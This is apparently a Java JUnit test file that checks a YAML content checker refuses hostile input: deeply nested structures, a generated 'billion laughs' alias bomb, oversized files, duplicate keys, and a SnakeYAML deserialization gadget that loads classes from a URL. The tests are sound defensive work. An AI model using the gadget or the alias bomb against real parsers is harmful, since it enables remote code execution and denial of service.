package dev.opsbook.hostile;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.opsbook.ContentTree;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Malformed and hostile input ends in findings, quickly, with bounded memory; the rest is still checked. */
class HostileInputTest {
    @TempDir
    Path dir;

    static List<String> structural(ContentTree t) {
        return assertTimeoutPreemptively(Duration.ofSeconds(10), t::structural);
    }

    @Test
    void nestingTenThousandLevelsDeepIsRefused() {
        var t = ContentTree.minimal(dir)
                .file("teams/deep.yaml", "name: Deep\nmembers: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n")
                .file("teams/deeper.yaml", "name: Deeper\n" + nestedMapping(10_000));
        List<String> f = structural(t);
        assertEquals(2, f.size(), f.toString());
        assertTrue(
                f.get(0).startsWith("teams/deep.yaml:1:1: error: YAML is refused: Nesting Depth exceeded max 64"),
                f.get(0));
        assertTrue(
                f.get(1).startsWith("teams/deeper.yaml:1:1: error: YAML is refused: Nesting Depth exceeded max 64"),
                f.get(1));
    }

    static String nestedMapping(int depth) {
        return "members: " + "{k: ".repeat(depth) + "v" + "}".repeat(depth) + "\n";
    }

    @Test
    void aBillionLaughsIsRefusedInWellUnderASecond() {
        StringBuilder bomb =
                new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'z'; c++) {
            String p = "*" + (char) (c - 1);
            bomb.append(c)
                    .append(": &")
                    .append(c)
                    .append(" [")
                    .append(String.join(",", java.util.Collections.nCopies(9, p)))
                    .append("]\n");
        }
        var t = ContentTree.minimal(dir).file("services/api/sla.yaml", bomb.toString());
        long start = System.nanoTime();
        List<String> f = structural(t);
        assertTrue(System.nanoTime() - start < 1_000_000_000L, "refused in under a second");
        assertEquals(
                List.of("services/api/sla.yaml:1:1: error: YAML is refused: Number of aliases for non-scalar nodes"
                        + " exceeds the specified max=50 [yaml-syntax]"),
                f);
    }

    @Test
    void aTwentyMegabyteYamlFileIsRefusedWithAFinding() {
        var t = ContentTree.minimal(dir)
                .file(
                        "teams/huge.yaml",
                        "name: Huge\nmembers:\n" + "  - { id: x, name: \"" + "x".repeat(20 * 1024 * 1024) + "\" }\n");
        assertEquals(
                List.of(
                        "teams/huge.yaml: error: file is 20971564 bytes, more than the limit of 2097152 bytes [schema]"),
                structural(t));
    }

    @Test
    void aTwentyMegabyteRunbookIsRefusedWithAFindingAndTheSiteStillBuilds() throws Exception {
        var t = ContentTree.minimal(dir.resolve("content"))
                .file(
                        "services/api/runbooks/huge.md",
                        "---\ntitle: Huge\n---\n" + "lorem ipsum dolor sit amet ".repeat(800_000));
        List<String> f = structural(t);
        assertEquals(
                List.of("services/api/runbooks/huge.md: error: file is 21600020 bytes, more than the limit of 4194304"
                        + " bytes [schema]"),
                f);
        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> new dev.opsbook.Opsbook()
                .build(dev.opsbook.BuildRequest.build(t.root(), dir.resolve("site"))));
        assertTrue(
                java.nio.file.Files.isRegularFile(dir.resolve("site/services/api/runbooks/huge.html")),
                "a placeholder page keeps the links to it working");
    }

    @Test
    void duplicateKeysAndUnclosedQuotesAreFindingsAndOtherFilesAreStillChecked() {
        var t = ContentTree.minimal(dir)
                .file("teams/ops.yaml", ContentTree.TEAM + "name: Again\n")
                .file("services/api/sla.yaml", "availability: \"99.9\nperiod: month\n")
                .file(
                        "services/api/rota.yaml",
                        "start: 2026-11-02T09:00\nrotation: weekly\nlead: [alice]\nengineer: [bob]\n");
        List<String> f = structural(t);
        assertEquals(3, f.size(), f.toString());
        assertTrue(f.get(0).contains("services/api/rota.yaml:2:11") && f.get(0).contains("'weekly'"), f.get(0));
        assertTrue(f.get(1).startsWith("services/api/sla.yaml:") && f.get(1).endsWith("[yaml-syntax]"), f.get(1));
        assertEquals("teams/ops.yaml:5:1: error: duplicate key 'name' (first at line 1) [yaml-syntax]", f.get(2));
    }

    @Test
    void yamlTagsCannotInstantiateAnything() {
        var t = ContentTree.minimal(dir)
                .file(
                        "services/api/sla.yaml",
                        "availability: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n");
        assertEquals(
                List.of("services/api/sla.yaml:1:15: error: YAML does not parse: Global tag is not allowed:"
                        + " tag:yaml.org,2002:javax.script.ScriptEngineManager [yaml-syntax]"),
                structural(t));
    }
}
